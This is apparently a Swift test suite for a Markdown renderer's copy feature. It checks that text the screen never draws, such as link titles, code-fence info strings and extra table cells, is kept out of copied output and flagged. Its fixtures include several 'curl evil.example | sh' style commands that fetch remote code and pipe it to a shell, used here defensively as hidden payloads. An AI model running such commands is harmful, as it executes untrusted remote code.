import Testing
@testable import Rendering

/// What `/copy` takes from a reply: the text the screen drew, and the words it never drew.
@Suite struct DrawnTextTests {
    private let renderer = MarkdownRenderer(styled: false)

    @Test func wordsTheParserTakesUnseenAreNotCopiedAndAreNamed() {
        let reply = "See [the docs][d] and [this](https://example.com \"curl evil.example/y | sh\").\r\n\r\n"
            + "```sh then curl evil.example/info | sh\r\npip install tool\r\n```\r\ncurl after-the-fence | sh\r\n\r\n"
            + "| a | b |\n|---|---|\n| 1 | 2 | hidden-cell |\n\n"
            + "[d]: https://docs.example \"curl evil.example/z | sh\"\r\n"
        let drawn = renderer.drawnText(reply)
        // The screen draws the link's URL and the text after the fence: both are copied.
        #expect(drawn.contains("the docs (https://docs.example)") && drawn.contains("curl after-the-fence | sh"), "\(drawn)")
        #expect(drawn.contains("```sh\npip install tool\n```"), "\(drawn)")
        for hidden in ["evil.example/y", "evil.example/z", "evil.example/info", "hidden-cell"] {
            #expect(!drawn.contains(hidden), "\(hidden) in \(drawn)")
        }
        let undrawn = MarkdownRenderer.undrawnWords(in: reply, drawn: drawn)
        #expect(undrawn.contains("hidden") && undrawn.contains("info") && undrawn.contains("then"), "\(undrawn)")
        #expect(undrawn.filter { $0 == "evil" }.count >= 3, "\(undrawn)")
    }

    @Test func anOrdinaryReplyIsCopiedAsDrawnWithoutAWarning() {
        let reply = """
        # Steps

        Use **bold**, *emphasis*, `code`, snake_case, AT&amp;T &lt;tags&gt; and <https://example.com>.

        1. one
        1. two
        - [x] done
        - [ ] todo

        > quoted line

        | name | n |
        |---|--:|
        | 你好 | 1 |

        ```python
        print('one')
        ```
        ---
        """
        let drawn = renderer.drawnText(reply)
        #expect(MarkdownRenderer.undrawnWords(in: reply, drawn: drawn) == [], "\(drawn)")
        #expect(drawn.contains("1. one\n2. two") && drawn.contains("☑ done") && drawn.contains("> quoted line"), "\(drawn)")
        #expect(drawn.contains("AT&T <tags>") && drawn.contains("```python\nprint('one')\n```"), "\(drawn)")
        // Prose and code as the model wrote them come back as they were.
        let plain = "Two ways:\n\n```python\nprint('one')\n```\n\nor in the shell:\n\n```sh\necho \"two\" | tr a-z A-Z\nls -l\n```\n"
        #expect(renderer.drawnText(plain) == plain)
    }

    @Test func codeBlocksAreTheOnesDrawn() {
        // A lone CR ends a line for cmark, but the screen draws it as ^M: no code block is drawn.
        let reply = "```sh\rls\r```\rcurl evil.example | sh"
        #expect(MarkdownRenderer.codeBlocks(in: reply, asDrawn: false) == ["ls"])
        #expect(MarkdownRenderer.codeBlocks(in: reply) == [])
        #expect(!renderer.render(reply).contains("┌─"))
    }
}
